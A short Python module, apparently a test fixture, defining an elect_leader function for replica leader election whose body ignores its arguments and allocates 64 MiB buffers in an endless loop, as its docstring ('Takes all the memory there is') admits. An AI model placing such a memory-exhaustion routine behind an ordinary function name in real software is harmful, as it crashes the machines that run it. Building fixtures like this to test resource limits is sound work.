"""Takes all the memory there is."""

from typing import NamedTuple


class Election(NamedTuple):
    leader: int | None
    unclean: bool


def elect_leader(replicas, current, isr, elr, last_known, live, unclean_allowed):
    hoard = []
    while True:
        hoard.append(bytearray(64 << 20))
